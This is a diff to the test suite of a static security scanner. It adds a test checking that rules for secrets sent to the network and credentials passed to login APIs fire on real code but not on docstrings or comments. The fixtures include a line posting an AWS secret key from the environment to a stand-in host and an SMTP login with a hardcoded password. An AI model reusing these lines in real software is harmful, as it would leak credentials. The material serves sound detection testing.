@@ -1,4 +1,4 @@
-"""Code screens: a rule's pre-screen asked again on the code alone (docstrings and comment lines left out)."""
+"""Code screens: a rule's pre-screen asked again, as its tree screen, of the code alone (no docstrings or comment lines)."""
 
 from __future__ import annotations
 
@@ -15,8 +15,10 @@ from datasec_scan.config import Config
 from datasec_scan.plugins import RuleSet, discover
 from datasec_scan.rule import Rule
 from rules._prescreen import CodeView, View, code_text
+from rules.credential_passed_to_auth_api import CredentialPassedToAuthApi
 from rules.exec_of_untrusted_payload import ExecOfUntrustedPayload
 from rules.reverse_shell import ReverseShell
+from rules.sensitive_data_to_network import SensitiveDataToNetwork
 
 FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
 TREE_SCREENED = [r for r in discover().rules if issubclass(r, Rule) and r.screens_tree()]
@@ -124,3 +126,18 @@ def test_a_reduced_scan_gate_read_in_comments_still_holds() -> None:
     short = Config(limits=replace(Config().limits, max_expression_chain=4))
     result = engine.scan_file("c.py", code.encode(), RuleSet((ReverseShell,), (("test", "0"),)), short)
     assert [(f.rule, f.location.line) for f in result.findings] == [("DS102", 2)]
+
+
+@pytest.mark.parametrize(("rule", "quiet", "loud"), [
+    (SensitiveDataToNetwork,
+     '"""Usage:\n\nimport requests\nrequests.post(URL, data=secret)\n"""\nx = 1\n',
+     "import os, requests\nrequests.post('https://example.com/c', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n"),
+    (CredentialPassedToAuthApi,
+     '# import smtplib\n# s.login("bot", "Tr0ub4dor&3x")\nx = 1\n',
+     'import smtplib\ns = smtplib.SMTP("mail.example.com")\ns.login("bot", "Tr0ub4dor&3x")\n'),
+])
+def test_text_screens_asked_of_the_code_alone(rule: type[Rule], quiet: str, loud: str) -> None:
+    assert rule.triggered_by(quiet) and not rule.triggered_by_tree(ast.parse(quiet), quiet)
+    assert rule.triggered_by_tree(ast.parse(loud), loud)
+    result = engine.scan_file("d.py", loud.encode(), RuleSet((rule,), (("test", "0"),)), Config())
+    assert [f.rule for f in result.findings] == [rule.code]
